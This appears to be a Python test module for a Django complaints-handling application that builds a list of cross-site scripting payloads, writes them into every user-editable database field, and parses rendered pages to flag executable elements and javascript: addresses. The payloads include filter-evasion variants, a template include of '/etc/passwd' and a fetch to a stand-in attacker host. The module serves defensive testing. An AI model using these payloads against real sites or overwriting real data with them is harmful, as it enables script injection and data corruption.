"""Words that are meant to become something else: page, header, formula, request. Made here."""

import re
from html.parser import HTMLParser
from itertools import product

from django.db import models

ACTS = ("alert(9)", "window.__xss=9", "fetch('//evil.example')")
_OPENINGS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>")
_ELEMENTS = (
    "<script>{act}</script>",
    "<img src=x onerror={act}>",
    "<svg onload={act}>",
    "<svg><script>{act}</script></svg>",
    "<iframe srcdoc='<script>{act}</script>'></iframe>",
    "<a href='javascript:{act}'>click</a>",
    "<a href='JaVa\tScRiPt:{act}'>click</a>",
    "<body onload={act}>",
    "<details open ontoggle={act}>",
    "<input autofocus onfocus={act}>",
    "<math><mtext><style><img src=x onerror={act}></style></mtext></math>",
    "<object data='javascript:{act}'></object>",
    "<meta http-equiv=refresh content='0;url=javascript:{act}'>",
    "<base href='javascript:{act}//'>",
    "<form action='javascript:{act}'><button>go</button></form>",
)
_OTHERS = (
    '" onmouseover="{act}" x="',
    "' onfocus='{act}' autofocus x='",
    "` onclick={act} `",
    "javascript:{act}",
    "{{{{ {act} }}}}{{% include '/etc/passwd' %}}",
    "\u202e<script>{act}</script>",
    "\uff1cscript\uff1e{act}\uff1c/script\uff1e",
    "&lt;script&gt;{act}&lt;/script&gt;",
    "<scr<script>ipt>{act}</scr</script>ipt>",
    "<<script>{act}//<</script>",
)


def payloads() -> list[str]:
    """Return a few hundred texts that would run in a page which prints them as they are."""
    made = [
        opening + element.format(act=act)
        for act, opening, element in product(ACTS, _OPENINGS, _ELEMENTS)
    ]
    return [*made, *(each.format(act=act) for act in ACTS for each in _OTHERS)]


# Fields in which somebody writes, by the name of their table.
WRITTEN = {
    "customer": "name address phone needs",
    "representative": "name relationship phone address authority_seen scope",
    "jointcomplainant": "capacity",
    "servicearea": "name",
    "user": "name job_title phone",
    "procedure": "name",
    "category": "name",
    "closure": "name",
    "complaint": "summary desired_outcome",
    "deadline": "words",
    "storedfile": "name scan_words",
    "informationrequest": "to_name question shown",
    "landlord": "name telephone address website opening_hours emergency_telephone award_guidance",
    "servicerequest": "words passed_to done_words",
    "listexport": "reason",
    "inboundmail": "sender_name sender subject text reason",
    "outboundmessage": "subject body last_error",
    "letter": "to_name to_address subject body easy_read other_text sender signed",
    "letterdraft": "typed",
    "letterproposal": "typed body",
    "contactrestriction": "limits reason evidence considered",
    "declaredinterest": "relation name",
    "lesson": "you_said we_did",
    "outsidebodydetails": "name telephone website address words",
    "savedview": "name",
    "remark": "words answer",
    "restrictionletter": "to_name to_address body sender signed",
    "remarkletter": "to_name to_address body other_text language_because",
    "submission": "reason",
    "weeklyreport": "area_name subject body",
    "reportline": "officer next_due",
}


# What of an act is typed in words.
TYPED = frozenset({"letter", "reason", "late_because", "easy_read", "other_text", "words"})


def _typed(typed: dict[str, list[str]], text: str) -> dict[str, list[str]]:
    """Return what was typed of an act with a payload in the place of all words."""
    return {name: [text] if name in TYPED else given for name, given in typed.items()}


def write_everywhere(tables: list[type[models.Model]]) -> int:
    """Write another payload into every field that is filled in, and say into how many."""
    texts = payloads()
    number = 0
    for table in tables:
        fields = WRITTEN.get(table._meta.model_name or "", "").split()
        for row in table._default_manager.all() if fields else ():
            changes = {}
            for name in fields:
                if not getattr(row, name):
                    continue
                longest = table._meta.get_field(name).max_length
                text = texts[(number * 7) % len(texts)]
                value = getattr(row, name)
                changes[name] = _typed(value, text) if isinstance(value, dict) else text[:longest]
                number += 1
            if changes:
                table._default_manager.filter(pk=row.pk).update(**changes)
    return number


class Found(HTMLParser):
    """What of a page could run: elements, attributes and addresses that no page of ours has."""

    NEVER = frozenset({"iframe", "object", "embed", "base", "math", "applet", "marquee"})
    ADDRESSES = frozenset({"href", "src", "action", "formaction", "data", "srcdoc", "xlink:href"})

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at one element."""
        given = {name: value or "" for name, value in attrs}
        if tag in self.NEVER:
            self.faults.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in given:
            self.faults.append("<meta http-equiv>")
        if tag == "script" and not given.get("src", "").startswith("/static/"):
            self.faults.append(f"<script> {given}")
        for name, value in given.items():
            plain = re.sub(r"[\x00-\x20]", "", value).lower()
            if name.startswith("on"):
                self.faults.append(f"{tag} {name}={value}")
            if name in self.ADDRESSES and plain.startswith(("javascript:", "data:", "vbscript:")):
                self.faults.append(f"{tag} {name}={value}")

    handle_startendtag = handle_starttag


def faults_of(page: str) -> list[str]:
    """Return what of a page could run."""
    found = Found()
    found.feed(page)
    found.close()
    return found.faults
